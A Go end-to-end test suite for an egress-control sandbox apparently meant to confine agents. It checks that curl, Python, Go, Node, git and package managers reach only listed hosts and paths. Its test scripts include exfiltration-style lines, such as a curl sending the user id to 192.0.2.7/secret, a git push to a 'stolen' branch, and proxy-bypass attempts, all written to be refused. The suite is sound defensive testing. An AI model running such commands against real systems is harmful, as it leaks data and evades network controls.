package e2e

import (
	"archive/zip"
	"bytes"
	"encoding/pem"
	"fmt"
	"net"
	"net/http"
	"net/http/cgi"
	"net/http/httptest"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"sallyport.dev/sallyport"
	"sallyport.dev/sallyport/internal/lifecycle"
	"sallyport.dev/sallyport/test/world"
)

// internet is what a world can reach: servers on loopback that only the gateway finds, as files.test.
type internet struct {
	plain, secure string // ports
	certificate   string // of the secure one, PEM
	down          chan struct{}
	mu            sync.Mutex
	asked         []string
}

func (i *internet) heard() string {
	i.mu.Lock()
	defer i.mu.Unlock()
	return strings.Join(i.asked, "\n")
}

// connect starts the servers and gives their name to the person's own configuration.
func connect(t *testing.T, w *world.World) *internet {
	t.Helper()
	i := &internet{down: make(chan struct{})}
	origin := w.Folder(filepath.Join(w.Dir, "origin"))
	w.Command(origin, "git", "init", "-q", "--bare", "-b", "main", "lib.git").Want(0)
	w.Command(filepath.Join(origin, "lib.git"), "git", "config", "http.receivepack", "true").Want(0)
	w.Git("push", "-q", filepath.Join(origin, "lib.git"), "HEAD:refs/heads/main")
	git, err := exec.LookPath("git")
	w.Must(err)
	forge := &cgi.Handler{Path: git, Args: []string{"http-backend"}, Root: "/forge",
		Env: []string{"GIT_PROJECT_ROOT=" + origin, "GIT_HTTP_EXPORT_ALL=1", "GIT_CONFIG_COUNT=1", "GIT_CONFIG_KEY_0=safe.directory", "GIT_CONFIG_VALUE_0=*"}}
	mux := http.NewServeMux()
	mux.Handle("/forge/", forge)
	mux.HandleFunc("/hello", func(rw http.ResponseWriter, _ *http.Request) { fmt.Fprintln(rw, "hello from outside") })
	mux.HandleFunc("/slow", func(rw http.ResponseWriter, r *http.Request) {
		rw.Header().Set("Content-Length", "1000")
		fmt.Fprint(rw, strings.Repeat("x", 500))
		rw.(http.Flusher).Flush()
		select {
		case <-i.down:
		case <-r.Context().Done():
		}
	})
	logged := http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		i.mu.Lock()
		i.asked = append(i.asked, r.Method+" "+r.Host+r.URL.RequestURI())
		i.mu.Unlock()
		mux.ServeHTTP(rw, r)
	})
	plain, secure := httptest.NewServer(logged), httptest.NewTLSServer(logged)
	t.Cleanup(func() { close(i.down); plain.Close(); secure.Close() })
	i.plain, i.secure = port(t, plain.URL), port(t, secure.URL)
	i.certificate = string(pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: secure.Certificate().Raw}))
	w.File(filepath.Join(w.Home, ".config", "sallyport", "config.yaml"), "version: 1\nresolve: {files.test: 127.0.0.1, example.com: 127.0.0.1}\n")
	return i
}

func port(t *testing.T, address string) string {
	t.Helper()
	u, err := url.Parse(address)
	if err != nil {
		t.Fatal(err)
	}
	_, p, err := net.SplitHostPort(u.Host)
	if err != nil {
		t.Fatal(err)
	}
	return p
}

func (i *internet) httpRule() string {
	return "{host: files.test, protocol: http, port: " + i.plain + ", methods: [GET, HEAD, POST]}"
}

func (i *internet) httpsRule() string {
	return "{host: example.com, port: " + i.secure + `, methods: ["*"], own-auth: true}`
}

// TestEgress: real programs reach what is listed, by their own proxy settings, and nothing else.
func TestEgress(t *testing.T) {
	world.Each(t, func(t *testing.T, w *world.World) {
		w.Small()
		net := connect(t, w)
		w.File("ca.pem", net.certificate) // httptest's certificate is for example.com
		w.Commit("a certificate")
		python := "import urllib.request as u; print('python:', u.urlopen('http://files.test:" + net.plain + "/hello').read().decode())"
		if _, err := os.Stat("/usr/bin/python3"); err != nil {
			t.Skip("missing capability: /usr/bin/python3")
		}
		script := strings.Join([]string{
			"echo good > a",
			"curl -sS -m 20 http://files.test:" + net.plain + "/hello",
			"curl -sS -m 20 --cacert ca.pem https://example.com:" + net.secure + "/hello?tls",
			`/usr/bin/python3 -c "` + python + `"`,
			"cd /tmp && git clone -q http://files.test:" + net.plain + "/forge/lib.git && cd lib && echo cloned: $(cat t.sh | wc -l)",
			"git -c user.name=a -c user.email=a@a commit -q --allow-empty -m x; git push -q origin HEAD:refs/heads/stolen 2>&1; echo push: $?",
			"curl -sS -m 20 http://192.0.2.7/secret?$(id -u); curl -sS -m 20 https://other.test/ 2>&1",
			"curl -sS -m 20 --noproxy '*' http://files.test:" + net.plain + "/hello?direct; curl -sS -m 5 --noproxy '*' http://127.0.0.1:" + net.plain + "/loopback",
			"env | grep -i ^https_proxy; true",
		}, "\n")
		r := w.Run("out", script, "--egress", net.httpRule(), "--egress", net.httpsRule()).Want(0)
		rep := r.Report()
		accepted(t, w, rep)
		log := w.Log(rep.Attempt, "agent")
		for _, want := range []string{"hello from outside\nhello from outside\n", "python: hello from outside", "cloned: ", "git-push", "host-not-listed", "Could not resolve host: other.test"} {
			if !strings.Contains(log, want) {
				t.Errorf("the agent did not say %q:\n%s", want, log)
			}
		}
		if heard := net.heard(); strings.Contains(heard, "loopback") || strings.Contains(heard, "receive-pack") || strings.Contains(heard, "secret") || !strings.Contains(heard, "hello?tls") || !strings.Contains(heard, "hello?direct") {
			t.Errorf("outside was asked:\n%s", heard)
		}
		if strings.Contains(log, "https_proxy=") {
			t.Error("a proxy beside the redirect")
		}
		if strings.Contains(log, "push: 0") || w.Command(w.Dir, "git", "--git-dir=origin/lib.git", "branch", "--list", "stolen").Out != "" {
			t.Errorf("a push went through:\n%s", log)
		}
		lines := map[string]string{}
		for _, f := range rep.Refusals {
			lines[f.Host+" "+f.Reason] = f.Line
			if !strings.Contains(f.Process, " (pid ") {
				t.Errorf("nobody asked: %+v", f)
			}
		}
		if got := lines["other.test host-not-listed"]; got == "" {
			t.Errorf("refusals: %+v", rep.Refusals)
		}
		if _, ok := lines["files.test git-push"]; !ok {
			t.Errorf("refusals: %+v", rep.Refusals)
		}
		w.Sallyport("show", string(rep.Attempt)).Want(0).Says("Refused a way out", "http 192.0.2.7:80 GET /secret", "by /usr/bin/curl (pid ", "https other.test:443", "under egress: other.test", "may reach "+net.httpsRule())
		w.File(filepath.Join(w.Dir, "key.pem"), w.Sallyport("keys").Want(0).Out)
		w.Sallyport("verify", rep.Evidence, "--key", filepath.Join(w.Dir, "key.pem")).Want(0).Says("given 2 egress rule(s): http files.test:" + net.plain)
		// The check has no way out, whatever the agent had.
		w.File("t.sh", "#!/bin/sh\n! env | grep -i ^https_proxy && ! curl -sS -m 5 http://files.test:"+net.plain+"/check\n")
		w.Commit("a check that looks")
		w.Run("checks", "echo good > a", "--egress", net.httpRule()).Want(0)
		if strings.Contains(net.heard(), "/check") {
			t.Error("a check reached the outside")
		}
	})
}

// TestEgressOpened: an https rule is held to its methods, paths and git reads with the usual clients, none of which is
// told of an authority by hand.
func TestEgressOpened(t *testing.T) {
	world.Each(t, func(t *testing.T, w *world.World) {
		w.Small()
		net := connect(t, w)
		// The trusted side knows the test's servers as an operator's private authority.
		w.Env = append(w.Env, "SSL_CERT_FILE="+w.File(filepath.Join(w.Dir, "outside.pem"), net.certificate))
		at := "https://example.com:" + net.secure
		for _, program := range []string{"/usr/bin/python3", "/usr/bin/curl"} {
			if _, err := os.Stat(program); err != nil {
				t.Skip("missing capability: " + program)
			}
		}
		source := w.File(filepath.Join(w.Dir, "client", "main.go"), `package main

import (
	"fmt"
	"io"
	"net/http"
	"os"
)

func main() {
	r, err := http.Get(os.Args[1])
	if err != nil {
		fmt.Println("go:", err)
		return
	}
	b, _ := io.ReadAll(r.Body)
	fmt.Print("go: ", string(b))
}
`)
		build := exec.Command("go", "build", "-o", filepath.Join(w.Repo, "client"), source)
		build.Env = append(os.Environ(), "CGO_ENABLED=0", "GOFLAGS=")
		if out, err := build.CombinedOutput(); err != nil {
			t.Fatalf("%v\n%s", err, out)
		}
		w.Own(filepath.Join(w.Repo, "client"))
		w.Commit("a client")
		script := strings.Join([]string{
			"echo good > a",
			"curl -sS -m 20 " + at + "/hello?curl",
			"curl -sS -m 20 -X POST " + at + "/hello?post",
			"curl -sS -m 20 " + at + "/other",
			`/usr/bin/python3 -c "import urllib.request as u; print('python:', u.urlopen('` + at + `/hello?python').read().decode())"`,
			"./client " + at + "/hello?go",
			`if command -v node >/dev/null; then node -e "fetch('` + at + `/hello?node').then(r => r.text()).then(t => console.log('node:', t), e => console.log('node:', e.cause))"; else echo node: hello from outside; fi`,
			"cd /tmp && git clone -q " + at + "/forge/lib.git && cd lib && echo cloned: $(cat t.sh | wc -l)",
			"git -c user.name=a -c user.email=a@a commit -q --allow-empty -m x; git push -q origin HEAD:refs/heads/stolen 2>&1; echo push: $?",
			"true",
		}, "\n")
		rule := "{host: example.com, port: " + net.secure + ", paths: [/hello]}"
		git := "{host: example.com, port: " + net.secure + ", protocol: git, paths: [/forge/*]}"
		rep := w.Run("opened", script, "--egress", rule, "--egress", git).Want(0).Report()
		log := w.Log(rep.Attempt, "agent")
		for _, want := range []string{"hello from outside\nsallyport: method-not-listed", "path-not-listed", "python: hello from outside", "go: hello from outside", "node: hello from outside", "cloned: "} {
			if !strings.Contains(log, want) {
				t.Errorf("the agent did not say %q:\n%s", want, log)
			}
		}
		if heard := net.heard(); strings.Contains(heard, "POST") && strings.Contains(heard, "post") || strings.Contains(heard, "/other") || strings.Contains(heard, "receive-pack") {
			t.Errorf("outside was asked:\n%s", heard)
		}
		if strings.Contains(log, "push: 0") || w.Command(w.Dir, "git", "--git-dir=origin/lib.git", "branch", "--list", "stolen").Out != "" {
			t.Errorf("a push went through:\n%s", log)
		}
	})
}

// TestPackageManagers: npm, go and pip fetch over https through a rule that lists reads, with no word said to them
// about an authority or a proxy.
func TestPackageManagers(t *testing.T) {
	t.Parallel()
	w := world.New(t)
	w.Small()
	for _, p := range []string{"npm", "go", "/usr/bin/pip3"} {
		if _, err := exec.LookPath(p); err != nil {
			t.Skip("missing capability: " + p)
		}
	}
	r := &registry{files: map[string][]byte{}}
	server := httptest.NewTLSServer(r)
	t.Cleanup(server.Close)
	r.port = port(t, server.URL)
	w.File(filepath.Join(w.Home, ".config", "sallyport", "config.yaml"), "version: 1\nresolve: {example.com: 127.0.0.1}\n")
	w.Env = append(w.Env, "SSL_CERT_FILE="+w.File(filepath.Join(w.Dir, "outside.pem"), string(pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: server.Certificate().Raw}))))
	at := "https://example.com:" + r.port
	r.addModule(w)
	integrity := r.add(w, "1.0.0")
	r.files["/simple/dep/"] = []byte(`<a href="/packages/dep-1.0-py3-none-any.whl">dep-1.0-py3-none-any.whl</a>`)
	r.files["/packages/dep-1.0-py3-none-any.whl"] = wheel(t)
	w.File("npm/package.json", packageJSON("1.0.0"))
	w.File("npm/package-lock.json", strings.ReplaceAll(r.lock("1.0.0", integrity), r.url(), at))
	w.Commit("what to fetch")
	script := strings.Join([]string{
		"echo good > a",
		"cp -r npm /tmp/npm && (cd /tmp/npm && npm_config_offline=false npm ci --ignore-scripts --no-audit --no-fund --registry " + at + "/ && node -p \"'npm: ' + require('dep').version\")",
		"mkdir /tmp/go && (cd /tmp/go && printf 'module x\\n\\ngo 1.24\\n' > go.mod && GOPROXY=" + at + " GONOSUMDB=dep.test GONOSUMCHECK=1 GOFLAGS=-mod=mod go mod download dep.test/dep@v1.0.0 && echo go: $(ls $(go env GOMODCACHE)/dep.test))",
		"PIP_NO_INDEX=0 /usr/bin/pip3 download -q --no-deps --no-cache-dir -d /tmp/pip --index-url " + at + "/simple/ dep && echo pip: $(ls /tmp/pip)",
		"true",
	}, "\n")
	rep := w.Run("fetched", script, "--egress", "{host: example.com, port: "+r.port+"}").Want(0).Report()
	log := w.Log(rep.Attempt, "agent")
	for _, want := range []string{"npm: 1.0.0", "go: dep@v1.0.0", "pip: dep-1.0-py3-none-any.whl"} {
		if !strings.Contains(log, want) {
			t.Errorf("the agent did not say %q:\n%s\nrefused: %+v\nasked: %q", want, log, rep.Refusals, r.heard())
		}
	}
	if len(rep.Refusals) != 0 {
		t.Errorf("%+v", rep.Refusals)
	}
}

// wheel is a Python package of one file.
func wheel(t *testing.T) []byte {
	t.Helper()
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	for name, text := range map[string]string{
		"dep.py":                     "version = 1\n",
		"dep-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: dep\nVersion: 1.0\n",
		"dep-1.0.dist-info/WHEEL":    "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
		"dep-1.0.dist-info/RECORD":   "dep.py,,\ndep-1.0.dist-info/METADATA,,\ndep-1.0.dist-info/WHEEL,,\ndep-1.0.dist-info/RECORD,,\n",
	} {
		f, err := z.Create(name)
		if err == nil {
			_, err = f.Write([]byte(text))
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// TestOwnForgeIsOnlyRead: the host of a remote is read and never written to, whatever a rule says.
func TestOwnForgeIsOnlyRead(t *testing.T) {
	t.Parallel()
	w := world.New(t)
	w.Small()
	net := connect(t, w)
	w.Env = append(w.Env, "SSL_CERT_FILE="+w.File(filepath.Join(w.Dir, "outside.pem"), net.certificate))
	at := "https://example.com:" + net.secure
	w.Git("remote", "add", "corp", at+"/forge/lib.git")
	rep := w.Run("own", "echo good > a; curl -sS -m 20 "+at+"/hello?read; curl -sS -m 20 -d x "+at+"/hello?written", "--egress", net.httpsRule()).Want(0).Report()
	if log := w.Log(rep.Attempt, "agent"); !strings.Contains(log, "hello from outside\nsallyport: forge-write: ") {
		t.Errorf("the agent said:\n%s", log)
	}
	if heard := net.heard(); !strings.Contains(heard, "/hello?read") || strings.Contains(heard, "written") {
		t.Errorf("outside was asked:\n%s", heard)
	}
}

// TestEgressEmpty: nothing listed is nothing, and there is not even a way to ask.
func TestEgressEmpty(t *testing.T) {
	t.Parallel()
	w := world.New(t)
	w.Small()
	net := connect(t, w)
	script := "echo good > a; env | grep -i ^http; curl -sS -m 5 http://files.test:" + net.plain + "/hello; curl -sS -m 5 -x http://127.0.0.1:18790 http://files.test:" + net.plain + "/hello; true"
	rep := w.Run("none", script).Want(0).Report()
	w.File("sallyport.yaml", world.Policy("sh t.sh", "egress: ["+net.httpRule()+"]"))
	w.Commit("ask")
	w.Sallyport("trust", "--yes").Want(0)
	narrowed := w.Run("narrowed", script, "--egress=").Want(0).Report()
	for _, r := range []sallyport.Report{rep, narrowed} {
		if log := w.Log(r.Attempt, "agent"); strings.Contains(log, "hello") || strings.Contains(strings.ToLower(log), "http_proxy=") || len(r.Refusals) != 0 {
			t.Errorf("%s: %+v\n%s", r.Name, r.Refusals, log)
		}
	}
	if net.heard() != "" {
		t.Errorf("outside was asked:\n%s", net.heard())
	}
}

// TestEgressIsGranted: what the repository asks for needs the person's word, and is shown whole.
func TestEgressIsGranted(t *testing.T) {
	t.Parallel()
	w := world.New(t)
	w.Small()
	net := connect(t, w)
	w.File("sallyport.yaml", world.Policy("sh t.sh", "egress:", "  - "+net.httpRule()))
	w.Commit("ask")
	script := "echo good > a; curl -sS -m 20 http://files.test:" + net.plain + "/hello"
	refused(w, w.Run("job", script), 40, "sallyport.yaml:4:5", "egress {host: files.test", "sallyport trust")
	w.Sallyport("trust", "--show").Want(0).Says("egress {host: files.test, protocol: http, port: "+net.plain, "not granted")
	w.Sallyport("trust", "--yes").Want(0)
	if log := w.Log(w.Run("job", script).Want(0).Report().Attempt, "agent"); !strings.Contains(log, "hello from outside") {
		t.Errorf("granted, and yet:\n%s", log)
	}
}

// TestLearn: a run whose refusals become the block that the next run needs.
func TestLearn(t *testing.T) {
	t.Parallel()
	w := world.New(t)
	w.Small()
	net := connect(t, w)
	script := "curl -fsS -m 20 http://files.test:" + net.plain + "/hello; curl -fsS -m 20 https://example.com/; echo good > a"
	r := w.Sallyport("learn", "--name", "l", "--", "sh", "-c", script).Want(0)
	want := "egress:\n  - {host: example.com, paths: [/]}\n  - {host: files.test, protocol: http, port: " + net.plain + ", paths: [/hello]}\n"
	if r.Out != want {
		t.Fatalf("learned\n%s\nwant\n%s", r.Out, want)
	}
	if w.Command(w.Repo, "git", "rev-parse", "-q", "--verify", "sallyport/l").Code == 0 || net.heard() != "" {
		t.Errorf("learning published or reached something: %s", net.heard())
	}
	w.File("sallyport.yaml", world.Policy("sh t.sh", strings.TrimSpace(r.Out)))
	w.Commit("as learned")
	w.Sallyport("trust", "--yes").Want(0)
	rep := w.Run("l2", "curl -fsS -m 20 http://files.test:"+net.plain+"/hello; echo good > a").Want(0).Report()
	if log := w.Log(rep.Attempt, "agent"); !strings.Contains(log, "hello from outside") || len(rep.Refusals) != 0 {
		t.Errorf("%+v\n%s", rep.Refusals, log)
	}
}

// TestEgressAdopted: a driver is killed while something is downloaded. The agent sees a cut connection, and with the
// next driver the way out is open again, under the same rules.
func TestEgressAdopted(t *testing.T) {
	t.Parallel()
	w := world.New(t)
	w.Small()
	net := connect(t, w)
	id := w.Start("long", "curl -sS http://files.test:"+net.plain+"/slow -o /tmp/half; echo cut: $?; "+
		"until curl -fsS -m 5 http://files.test:"+net.plain+"/hello; do sleep 0.2; done; curl -sS -m 5 http://other.test/; echo good > a", "--egress", net.httpRule())
	w.Await("the download", func() bool { return strings.Contains(net.heard(), "/slow") })
	time.Sleep(200 * time.Millisecond) // the first half is on its way
	w.Kill(w.Driver())
	rep, code := w.Wait(id)
	if code != 0 {
		t.Fatalf("exit %d, %s %+v", code, rep.State, rep.Reason)
	}
	log := w.Log(id, "agent")
	if !strings.Contains(log, "cut: ") || strings.Contains(log, "cut: 0") || !strings.Contains(log, "hello from outside") {
		t.Errorf("the agent said:\n%s", log)
	}
	if len(rep.Refusals) != 1 || rep.Refusals[0].Host != "other.test" {
		t.Errorf("%+v", rep.Refusals)
	}
	opened := 0
	for _, e := range w.Events() {
		if e.Type == lifecycle.AttemptEgress && strings.Contains(e.Data, `"open":true`) {
			opened++
		}
	}
	if opened != 2 || !has(rep.NotChecked, "not all counted") {
		t.Errorf("the way out was opened %d times; not checked: %q", opened, rep.NotChecked)
	}
}
